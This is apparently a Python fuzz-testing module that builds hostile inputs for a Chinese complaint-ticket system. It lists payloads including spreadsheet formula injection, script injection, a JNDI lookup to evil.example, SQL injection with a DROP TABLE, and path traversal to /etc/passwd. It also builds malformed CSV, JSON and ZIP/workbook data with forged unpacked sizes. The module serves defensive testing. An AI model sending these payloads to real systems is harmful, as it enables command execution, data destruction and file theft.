"""Hostile input, made from a seed: what attackers, broken exports and tired people send."""

import io
import json
import random
import string
import zipfile
from collections.abc import Iterator
from typing import Any

FIELDS = (
    "工单编号", "主要内容", "标题", "受理时间", "来电人", "联系方式", "附件", "被反映区", "id", "text", "date", "unit",
    "环节", "时间", "单位", "协办单位", "退单原因", "是否解决", "记录编号", "returned_at", "missing", "no_clause", "",
)  # fmt: skip
PAYLOADS: tuple[Any, ...] = (
    # formulas, scripts, queries, paths
    "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%00",
    "' OR 1=1 --", "'; DROP TABLE ledger_events; --", "../../../../etc/passwd", "C:\\Windows\\win.ini",
    "file:///etc/passwd", "(a+)+$" * 50, "https://" + "a." * 2_000, "order-1", "..", ".",
    # letters
    "\0", "a\0b", "\ud800", "x\udfffy", "\ufeff", "\u202e反转", "\u200b" * 50, "é" * 300, "👩👧" * 100,
    "a" * 30_000, "长" * 20_001, "\x1b[31m", "\x07", "١٢٣",
    # figures and shapes
    "NaN", "Infinity", "-0", "1e999", "9" * 400, 10**400, -1, 0, 1.5, float("inf"), float("nan"), True, False, None,
    [], {}, [[[[[]]]]], {"$gt": ""}, {"a": {"b": {"c": 1}}}, ["x"] * 500,
    # times
    "2023-02-30", "0000-00-00", "99999-01-01", "2023/13/45 99:99", "9999-12-31T23:59:59+14:00",
    "0001-01-01T00:00:00-14:00", "-2023-01-01", "2023-04-06T12:00:00+99:99", "２０２３-01-01", "1680753600000",
    1680753600000, 10**18,
)  # fmt: skip


def cells(chance: random.Random) -> dict[str, Any]:
    """A row that may have anything anywhere; half of them begin as an honest one."""
    found: dict[str, Any] = {}
    if chance.random() < 0.5:
        found = {
            "工单编号": f"H-{chance.randrange(10**9)}",
            "主要内容": "路灯不亮",
            "环节": "派单",
            "时间": "2024-03-01",
        }
    for _ in range(chance.randrange(1, 5)):
        found[chance.choice(FIELDS)] = value(chance)
    if chance.random() < 0.1:
        found["".join(chance.choices(string.printable, k=8))] = value(chance)
    return found


def value(chance: random.Random) -> Any:
    """One hostile value; now and then letters at random from all of Unicode."""
    if chance.random() < 0.2:
        return "".join(chr(chance.randrange(0x110000)) for _ in range(chance.randrange(1, 40)))
    found = chance.choice(PAYLOADS)
    return [found] * chance.randrange(3) if chance.random() < 0.05 else found


def bodies(chance: random.Random, count: int) -> Iterator[bytes]:
    """Bodies of messages and calls: JSON with wounds, other encodings, bytes at random, nesting without end."""
    for _ in range(count):
        text = json.dumps(cells(chance), ensure_ascii=chance.random() < 0.5)
        body = text.encode("utf-8", "surrogatepass")
        match chance.randrange(9):
            case 0:
                body = body[: chance.randrange(len(body) + 1)]
            case 1:
                at = chance.randrange(len(body))
                body = body[:at] + chance.randbytes(3) + body[at + 1 :]
            case 2:
                body = text.encode("gb18030", "replace")
            case 3:
                body = text.encode("utf-16", "replace")
            case 4:
                body = chance.randbytes(chance.randrange(200))
            case 5:
                depth = chance.choice((5, 200, 300, 900, 5_000))
                body = b'{"text":' + b"[" * depth + b"]" * depth + b"}"
        yield body


def tables(chance: random.Random, count: int) -> Iterator[bytes]:
    """CSV files with open quotes, mixed encodings, too many columns and no end of lines."""
    header = "工单编号,主要内容,受理时间\n"
    for number in range(count):
        lines = [
            f"T{number}-1,路灯不亮,2024-03-01",
            f'T{number}-2,"没有结束的引号,2024-03-01',
            "多,出,来,的,列",
            "\0,\0,\0",
            "",
        ]
        chance.shuffle(lines)
        encodings = [chance.choice(("utf-8", "gb18030", "utf-16-le", "latin-1")) for _ in lines]
        written = (line.encode(code, "replace") + b"\n" for line, code in zip(lines, encodings, strict=True))
        yield header.encode(chance.choice(("utf-8", "gb18030"))) + b"".join(written)


def archive(members: dict[str, bytes], *, stated: int | None = None) -> bytes:
    """A ZIP of these members; `stated` is written as everybody's unpacked size, true or not."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in members.items():
            made.writestr(name, content)
    found = bytearray(packed.getvalue())
    if stated is not None:
        at = found.find(b"PK\x01\x02")
        while at >= 0:
            found[at + 24 : at + 28] = stated.to_bytes(4, "little")
            at = found.find(b"PK\x01\x02", at + 4)
    return bytes(found)


def workbook(sheet: bytes) -> bytes:
    """The least workbook that readers accept, around one sheet."""
    kinds = "http://schemas.openxmlformats.org"
    main = f"{kinds}/spreadsheetml/2006/main"
    relations = f"{kinds}/officeDocument/2006/relationships"
    return archive(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{kinds}/package/2006/content-types">'
                '<Default Extension="xml" ContentType="application/xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{kinds}/package/2006/relationships"><Relationship Id="r1"'
                f' Type="{relations}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{relations}"><sheets>'
                '<sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{kinds}/package/2006/relationships"><Relationship Id="r1"'
                f' Type="{relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>'.encode()
            + sheet
            + b"</sheetData></worksheet>",
        }
    )
